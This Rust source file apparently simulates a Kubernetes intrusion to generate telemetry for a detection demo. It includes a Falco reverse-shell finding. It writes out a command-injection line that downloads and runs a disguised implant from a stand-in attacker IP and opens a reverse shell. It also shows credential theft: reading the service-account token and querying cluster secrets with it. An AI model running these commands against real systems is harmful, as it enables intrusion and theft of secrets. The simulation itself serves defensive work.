//! Day D in the web container: the pods, the exploit through the ingress, the implant and
//! its reverse shell, recon and the service-account token.

use super::super::sim::{MS, NODE1, NODE2, SEC, Sim};
use super::super::truth::*;
use super::*;
use crate::demo::sim::Side::{Accept, Connect};
use crate::schema::{EventKind, FindingDetail, Severity};
use crate::store::StoreError;

/// The two pods of the story, started by the morning rollout, with their kubelet probes.
pub(super) fn pods(sim: &mut Sim, day: i64) -> Result<Scene, StoreError> {
    // The two pods of the story, started by the morning rollout.
    let web = sim.start_container(
        NODE1,
        day + WEB_STARTED,
        Some(WEB_CONTAINER_ID),
        pod_record("web", WEB_POD, WEB_IMAGE, "shop-web"),
        WEB_IP,
        "/usr/local/bin/python3.12",
        &[
            "/usr/local/bin/python3.12",
            "/usr/local/bin/gunicorn",
            "-w",
            "2",
            "-b",
            "0.0.0.0:8080",
            "shop.wsgi",
        ],
        APP,
        "/app",
    )?;
    let worker = sim.fork(
        NODE1,
        &web.entry,
        day + WEB_STARTED + 800 * MS,
        Some(WEB_CONTAINER_ID),
    )?;
    sim.net(
        NODE1,
        &web.entry,
        day + WEB_STARTED + 790 * MS,
        Some(WEB_CONTAINER_ID),
        EventKind::NetListen,
        None,
        (crate::demo::sim::ip("0.0.0.0"), 8080),
        None,
    )?;
    let pay = sim.start_container(
        NODE2,
        day + PAY_STARTED,
        Some(PAY_CONTAINER_ID),
        pod_record("api", PAY_POD, PAY_IMAGE, "payments-api"),
        PAY_IP,
        "/app/payments-api",
        &["/app/payments-api", "--listen", ":8443"],
        APP,
        "/app",
    )?;
    sim.net(
        NODE2,
        &pay.entry,
        day + PAY_STARTED + 300 * MS,
        Some(PAY_CONTAINER_ID),
        EventKind::NetListen,
        None,
        (crate::demo::sim::ip("0.0.0.0"), 8443),
        None,
    )?;
    // Kubelet probes until the end; they make the containers look like the others.
    for (c, node, port) in [(&web, NODE1, 8080u16), (&pay, NODE2, 8443)] {
        let kubelet = sim.daemon(node, "kubelet");
        let node_ip = if node == NODE1 {
            "10.10.1.11"
        } else {
            "10.10.1.12"
        };
        let end = if node == NODE1 {
            WEB_EXITED
        } else {
            PAY_EXITED
        };
        let mut t =
            day + if node == NODE1 {
                WEB_STARTED
            } else {
                PAY_STARTED
            } + 10 * SEC;
        let target = if node == NODE1 { &worker } else { &c.entry };
        while t < day + end {
            let sport = sim.ephemeral_port();
            sim.tcp(
                Connect,
                node,
                &kubelet,
                t,
                None,
                node_ip,
                sport,
                &c.ip,
                port,
                2 * MS,
                (112, 160),
            )?;
            sim.tcp(
                Accept,
                node,
                target,
                t + 300_000,
                Some(&c.id),
                node_ip,
                sport,
                &c.ip,
                port,
                MS,
                (160, 112),
            )?;
            t += 60 * SEC;
        }
    }

    Ok(Scene::new(web, worker, pay))
}

/// 1–2: the exploit request through the ingress; download, chmod, run the implant.
pub(super) fn exploit(sim: &mut Sim, day: i64, s: &mut Scene) -> Result<(), StoreError> {
    let worker = s.worker.clone();
    let w = W;
    let (ing, nginx) = sim.ingress.clone().expect("ingress started at boot");
    // 1. The exploit request through the ingress.
    sim.tcp(
        Accept,
        NODE1,
        &nginx,
        day + at(14, 2, 11, 250),
        Some(&ing.id),
        ATTACKER_IP,
        40_112,
        INGRESS_IP,
        443,
        900 * MS,
        (2_310, 512),
    )?;
    sim.tcp(
        Connect,
        NODE1,
        &nginx,
        day + at(14, 2, 11, 262),
        Some(&ing.id),
        INGRESS_IP,
        38_514,
        WEB_IP,
        8080,
        880 * MS,
        (2_310, 512),
    )?;
    sim.tcp(
        Accept,
        NODE1,
        &worker,
        day + at(14, 2, 11, 263),
        w,
        INGRESS_IP,
        38_514,
        WEB_IP,
        8080,
        878 * MS,
        (512, 2_310),
    )?;
    // 2. Command injection: download, chmod, run the implant.
    let cmd = "curl -s http://203.0.113.66:8000/kw -o /tmp/.kworker; chmod +x /tmp/.kworker; /tmp/.kworker 203.0.113.66 4444";
    let sh = sim.spawn(
        NODE1,
        &worker,
        day + at(14, 2, 11, 301) - 400_000,
        w,
        "/bin/sh",
        &["/bin/sh", "-c", cmd],
        APP,
        "/app",
    )?;
    let curl = sim.spawn(
        NODE1,
        &sh,
        day + at(14, 2, 11, 310) - 400_000,
        w,
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "http://203.0.113.66:8000/kw",
            "-o",
            "/tmp/.kworker",
        ],
        APP,
        "/app",
    )?;
    sim.net(
        NODE1,
        &curl,
        day + at(14, 2, 11, 320),
        w,
        EventKind::NetConnect,
        Some((crate::demo::sim::ip(WEB_IP), 41_870)),
        (crate::demo::sim::ip(ATTACKER_IP), 8000),
        None,
    )?;
    sim.written(
        NODE1,
        &curl,
        (day + at(14, 2, 11, 650), day + at(14, 2, 12, 100)),
        w,
        DROPPER_PATH,
        Some(DROPPER_SHA256),
    )?;
    sim.net(
        NODE1,
        &curl,
        day + at(14, 2, 12, 110),
        w,
        EventKind::NetClose,
        Some((crate::demo::sim::ip(WEB_IP), 41_870)),
        (crate::demo::sim::ip(ATTACKER_IP), 8000),
        Some((98, 2_104_552)),
    )?;
    sim.exit(NODE1, &curl, day + at(14, 2, 12, 120), w, 0)?;
    let chmod = sim.spawn(
        NODE1,
        &sh,
        day + at(14, 2, 12, 130),
        w,
        "/bin/chmod",
        &["chmod", "+x", DROPPER_PATH],
        APP,
        "/app",
    )?;
    sim.change(
        NODE1,
        &chmod,
        day + at(14, 2, 12, 140),
        w,
        Chmod(DROPPER_PATH, 0o755),
    )?;
    sim.exit(NODE1, &chmod, day + at(14, 2, 12, 145), w, 0)?;
    let child = sim.fork(NODE1, &sh, day + at(14, 2, 12, 160), w)?;
    let implant = sim.exec(
        NODE1,
        &child,
        day + at(14, 2, 12, 161),
        w,
        DROPPER_PATH,
        &[DROPPER_PATH, ATTACKER_IP, "4444"],
        APP,
        "/app",
        Some(DROPPER_SHA256),
    )?;
    sim.exit(NODE1, &sh, day + at(14, 2, 12, 170), w, 0)?;
    sim.net(
        NODE1,
        &implant,
        day + at(14, 2, 12, 200),
        w,
        EventKind::NetConnect,
        Some((crate::demo::sim::ip(WEB_IP), 52_344)),
        (crate::demo::sim::ip(ATTACKER_IP), 4444),
        None,
    )?;
    // The implant dup2()s the socket onto its standard streams: Falco's reverse-shell rule.
    let message = format!(
        "Redirect stdout/stdin to network connection | gparent=python3 fd.sip={ATTACKER_IP} \
         connection={WEB_IP}:52344->{ATTACKER_IP}:4444 lport=52344 rport=4444 fd_type=ipv4 \
         fd_proto=tcp evt_type=dup2 user=app user_uid=1000 user_loginuid=-1 process=.kworker \
         proc_exepath={DROPPER_PATH} parent=sh command=.kworker {ATTACKER_IP} 4444 terminal=0"
    );
    let tags = ["maturity_stable", "container", "network", "process"];
    sim.finding(
        NODE1,
        &implant,
        day + at(14, 2, 12, 230),
        w,
        FindingDetail::rule(REVERSE_SHELL_RULE)
            .severity(Some(Severity::Low))
            .tags(
                tags.iter()
                    .chain(&["mitre_execution", "T1059"])
                    .map(|t| t.to_string())
                    .collect(),
            )
            .message(Some(message)),
    )?;
    let shell = sim.spawn(
        NODE1,
        &implant,
        day + at(14, 2, 12, 240) - 500_000,
        w,
        "/bin/sh",
        &["/bin/sh", "-i"],
        APP,
        "/app",
    )?;
    s.implant = implant;
    s.shell = shell;
    Ok(())
}

/// 3: interactive recon and credential theft from the reverse shell.
pub(super) fn recon(sim: &mut Sim, day: i64, s: &mut Scene) -> Result<(), StoreError> {
    let w = W;
    let shell = s.shell.clone();
    // 3. Interactive recon and credential theft from the reverse shell.
    let token_path = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    let simple: [(i64, &str, Vec<&str>); 3] = [
        (at(14, 2, 40, 0), "/usr/bin/id", vec!["id"]),
        (at(14, 3, 5, 0), "/bin/cat", vec!["cat", token_path]),
        (at(14, 3, 30, 0), "/usr/bin/env", vec!["env"]),
    ];
    for (off, exe, argv) in simple {
        let p = sim.spawn(
            NODE1,
            &shell,
            day + off - 500_000,
            w,
            exe,
            &argv,
            APP,
            "/app",
        )?;
        sim.exit(NODE1, &p, day + off + 8 * MS, w, 0)?;
    }
    let auth = format!("Authorization: Bearer {TOKEN}");
    let api = "10.96.0.1";
    let c1 = sim.spawn(
        NODE1,
        &shell,
        day + at(14, 4, 10, 0) - 2 * MS,
        w,
        "/usr/bin/curl",
        &[
            "curl",
            "-sk",
            "-H",
            &auth,
            "https://10.96.0.1/api/v1/namespaces/shop/secrets",
        ],
        APP,
        "/app",
    )?;
    let end = sim.tcp(
        Connect,
        NODE1,
        &c1,
        day + at(14, 4, 10, 0),
        w,
        WEB_IP,
        49_210,
        api,
        443,
        240 * MS,
        (1_420, 18_733),
    )?;
    sim.exit(NODE1, &c1, end + MS, w, 0)?;
    s.auth = auth;
    s.api = api;
    Ok(())
}
